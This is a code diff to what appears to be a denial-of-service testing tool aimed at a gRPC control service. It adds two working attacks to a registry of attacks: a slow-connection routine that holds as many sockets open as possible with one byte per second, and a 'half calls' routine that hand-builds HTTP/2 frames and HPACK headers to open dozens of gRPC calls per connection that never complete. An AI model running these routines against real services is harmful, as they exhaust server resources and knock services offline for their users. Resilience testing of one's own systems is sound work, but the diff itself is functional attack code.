@@ -27,6 +27,10 @@ RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close with RST
 GREETING = b"dlc/2 group "
 NONCE = b"a" * 64
 PURPOSES = ("group", "probe", "exec", "batch", "lease")
+CALLERS, HALF_CALLS = 60, 32  # connections, and calls on each
+HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS, HEADERS, END_HEADERS = 4, 1, 4
+CALLED = (b"/dlc.dataservice.Control/Challenge", b"/dlc.dataservice.Control/Describe", b"/grpc.health.v1.Health/Watch")
 
 
 @dataclass(frozen=True)
@@ -128,6 +132,41 @@ def slow_bytes(target: Target) -> Iterator[None]:
         yield
 
 
+def held(target: Target) -> Iterator[None]:
+    """As many connections as can be had, each with a byte a second, and a new one for each that is lost."""
+    socks: list[socket.socket] = []
+    for letter in itertools.cycle(GREETING.decode() + "a" * MOST_HELD):
+        while len(socks) < MOST_HELD:
+            with contextlib.suppress(OSError):
+                socks.append(target.connect())
+            yield
+        socks = [sock for sock in socks if _takes(sock, letter.encode())]
+        time.sleep(1)
+        yield
+
+
+def _takes(sock: socket.socket, data: bytes) -> bool:
+    """Send what can be sent; return whether the other side holds the connection open."""
+    with contextlib.suppress(OSError):
+        sock.setblocking(False)
+        sock.send(data)
+    return _is_open(sock)
+
+
+def _is_open(sock: socket.socket) -> bool:
+    """Read what has come; return whether the other side holds the connection open."""
+    sock.setblocking(False)
+    try:
+        while sock.recv(1 << 16):
+            pass
+    except BlockingIOError:
+        return True
+    except OSError:
+        pass
+    sock.close()
+    return False
+
+
 def resets(target: Target) -> Iterator[None]:
     """Half a greeting, and a connection that breaks."""
     while True:
@@ -135,6 +174,31 @@ def resets(target: Target) -> Iterator[None]:
             sock.sendall(GREETING)
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
         yield
+
+
+def half_calls(target: Target) -> Iterator[None]:
+    """Calls of gRPC whose requests do not come, on connections that stay open for as long as they may."""
+    socks: list[socket.socket] = []
+    for path in itertools.cycle(CALLED):
+        if len(socks) < CALLERS:
+            socks.append(target.connect())
+            calls = [_frame(HEADERS, END_HEADERS, 2 * number + 1, _headers(path)) for number in range(HALF_CALLS)]
+            socks[-1].sendall(HTTP2 + _frame(SETTINGS, 0, 0, b"") + b"".join(calls))
+        socks = [sock for sock in socks if _is_open(sock)]
+        time.sleep(SLOW / 10)
+        yield
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """Return a frame of HTTP/2."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def _headers(path: bytes) -> bytes:
+    """Return the headers of a call as HPACK writes them: POST and http out of its table, the others as text."""
+    post_http, path_name, authority, content_type = b"\x83\x86", b"\x04", b"\x01", b"\x0f\x10"
+    texts = ((path_name, path), (authority, b"x"), (content_type, b"application/grpc"), (b"\x00\x02te", b"trailers"))
+    return post_http + b"".join(name + bytes((len(text),)) + text for name, text in texts)
 
 
 def replay(target: Target) -> Iterator[None]:
@@ -150,7 +214,9 @@ ATTACKS: dict[str, Callable[[Target], Iterator[None]]] = {
     "reflection": reflection,
     "a flood": flood,
     "slow bytes": slow_bytes,
+    "held": held,
     "resets": resets,
+    "half calls": half_calls,
     "replay": replay,
 }
 
